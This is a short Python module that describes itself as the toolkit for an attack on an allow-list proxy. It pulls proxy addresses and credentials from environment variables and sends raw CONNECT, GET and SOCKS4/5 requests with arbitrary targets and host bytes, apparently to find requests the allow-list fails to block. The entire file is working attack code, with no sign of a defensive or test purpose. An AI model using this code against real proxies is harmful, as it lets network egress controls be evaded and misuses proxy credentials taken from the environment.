"""What an attack on the allow-list proxy needs: where it is by the environment, and bytes sent to it as they are."""
import base64, os, socket, struct
from urllib.parse import unquote, urlsplit


def place(*names):
    for name in names:
        for variant in (name, name.lower()):
            if os.environ.get(variant):
                return urlsplit(os.environ[variant])
    raise SystemExit("no proxy is named")


def authorization(user=None, secret=None):
    http = place("HTTPS_PROXY", "HTTP_PROXY")
    user, secret = user or unquote(http.username or ""), secret or unquote(http.password or "")
    if not user and not secret:
        return b""
    return b"Proxy-Authorization: Basic " + base64.b64encode(f"{user}:{secret}".encode()) + b"\r\n"


def dial(where):
    s = socket.create_connection((where.hostname, where.port), timeout=3)
    s.settimeout(3)
    return s


def receive(s):
    data = b""
    try:
        while len(data) < 4096:
            more = s.recv(4096)
            if not more:
                break
            data += more
            s.settimeout(0.5)
    except OSError:
        pass
    return data


def show(name, data):
    print(name, data[:160], flush=True)
    return data


def raw(data):
    """Sends bytes to the HTTP side; AUTH stands for the line that proves who asks."""
    s = dial(place("HTTPS_PROXY", "HTTP_PROXY"))
    s.sendall(data.replace(b"AUTH\r\n", authorization()))
    return s


def tunnel(authority, extra=b"", then=b"GET / HTTP/1.0\r\n\r\n"):
    """CONNECT, and a request through whatever opened."""
    s = raw(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\nAUTH\r\n" + extra + b"\r\n")
    try:
        first = s.recv(4096)
        if b" 200" in first[:16]:
            s.sendall(then)
    except OSError:
        first = b""
    return show("connect", first + receive(s))


def get(target, host=None, extra=b""):
    s = raw(b"GET " + target + b" HTTP/1.1\r\nHost: " + (host or b"x") + b"\r\nAUTH\r\n" + extra + b"Connection: close\r\n\r\n")
    return show("get", receive(s))


def socks(host, port, kind=3, command=1, login=True, version=5):
    """SOCKS with any bytes as the host; kind 1 and 4 take an address."""
    where = place("ALL_PROXY", "HTTPS_PROXY")
    s = dial(where)
    try:
        if version == 4:
            s.sendall(struct.pack("!BBH", 4, command, port) + host)
            return show("socks4", receive(s))
        user, secret = unquote(where.username or ""), unquote(where.password or "")
        s.sendall(b"\5\1\2" if login and user else b"\5\1\0")
        method = s.recv(2)
        if method == b"\5\2":
            if not login:
                return show("socks login", method)
            s.sendall(bytes([1, len(user)]) + user.encode() + bytes([len(secret)]) + secret.encode())
            s.recv(2)
        body = bytes([len(host)]) + host if kind == 3 else host
        s.sendall(bytes([5, command, 0, kind]) + body + struct.pack("!H", port))
        first = s.recv(16)
        if first[:2] == b"\5\0":
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return show("socks", first + receive(s))
    except OSError as error:
        return show("socks", repr(error).encode())
